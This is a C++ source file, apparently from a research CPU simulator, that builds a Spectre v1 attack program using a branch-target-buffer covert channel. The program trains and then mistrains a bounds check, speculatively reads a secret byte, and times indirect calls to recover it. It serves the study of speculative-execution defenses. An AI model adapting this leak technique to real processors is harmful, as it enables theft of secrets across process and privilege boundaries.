/**
 * @file
 * Spectre v1 with the *BTB* covert channel — paper §3, Listing 3 and
 * Fig 5. The transmit phase is a speculative indirect call through a
 * table of 256 target functions, all from a single call site, so the
 * BTB entry for that site ends up encoding the secret. Recovery times
 * a correct-path call per guess: only the correct guess predicts the
 * target and avoids the ~16-cycle mispredict penalty. No cache state
 * depends on the secret: the table and all targets stay cached.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

Program
SpectreV1Btb::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1-btb");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- 256 target functions (paper Listing 3 line 2) ------------------
    std::vector<std::uint8_t> table(256 * 8);
    std::vector<Addr> target_pcs;
    target_pcs.reserve(256);
    for (int i = 0; i < 256; ++i) {
        target_pcs.push_back(b.here());
        b.ret(28);
    }
    for (int i = 0; i < 256; ++i) {
        const Addr pc = target_pcs[static_cast<std::size_t>(i)];
        for (int j = 0; j < 8; ++j) {
            table[static_cast<std::size_t>(i) * 8 + j] =
                static_cast<std::uint8_t>(pc >> (8 * j));
        }
    }
    b.segment(kTargetTable, std::move(table));

    // --- jumpToTarget(index in r10), link in r29 ------------------------
    // All transmissions and probes go through this single call site so
    // they hit the same BTB entry (Listing 3 lines 5-6).
    auto jump_to_target = b.label();
    b.movi(15, static_cast<std::int64_t>(kTargetTable));
    b.shli(16, 10, 3);
    b.add(15, 15, 16);
    b.load(16, 15, 0, 8);
    b.callr(28, 16);                 // the BTB-keyed call site
    b.ret(29);

    // --- victim(x in r10), link in r30 -----------------------------------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // flushed -> wide window
    b.bgeu(10, 12, vend);
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.load(14, 13, 0, 1);            // (1) access secret
    b.mov(10, 14);
    b.call(29, jump_to_target);      // (2) transmit: BTB <- target[secret]
    b.bind(vend);
    b.ret(30);

    // --- main ----------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);

    // Warm the target table, all 256 target functions' i-cache lines,
    // and the BTB update path so later timing differences come only
    // from the BTB prediction (paper §3's validation requirement).
    b.movi(18, 0);
    b.movi(19, 256);
    auto warm = b.label();
    b.mov(10, 18);
    b.call(29, jump_to_target);
    b.addi(18, 18, 1);
    b.blt(18, 19, warm);

    // Recover phase (destructive: one access+transmit per guess,
    // Listing 3 lines 17-24).
    b.movi(25, 0);                   // guess
    auto guess_loop = b.label();
    {
        // Keep the bounds branch's bimodal counter trained in-bounds.
        b.movi(21, 0);
        auto inner = b.label();
        b.movi(10, 5);               // valid x
        b.call(30, victim);
        b.addi(21, 21, 1);
        b.movi(5, 4);
        b.blt(21, 5, inner);
        // Randomize global history so the attack call's gshare slot is
        // fresh, then steer once with the out-of-bounds x.
        emitHistoryScramble(b, 25);
        b.movi(10, kSecretDelta);
        b.movi(1, static_cast<std::int64_t>(kBoundAddr));
        b.clflush(1, 0);
        b.fence();
        b.call(30, victim);
        b.fence();

        // Probe: call jumpToTarget(guess) and time it.
        b.rdtsc(22);
        b.mov(10, 25);
        b.call(29, jump_to_target);
        b.rdtsc(23);
        b.sub(24, 23, 22);
        b.movi(7, static_cast<std::int64_t>(kResultsBase));
        b.shli(8, 25, 3);
        b.add(7, 7, 8);
        b.store(7, 0, 24, 8);
    }
    b.addi(25, 25, 1);
    b.movi(5, 256);
    b.blt(25, 5, guess_loop);
    b.halt();
    return b.build();
}

} // namespace nda
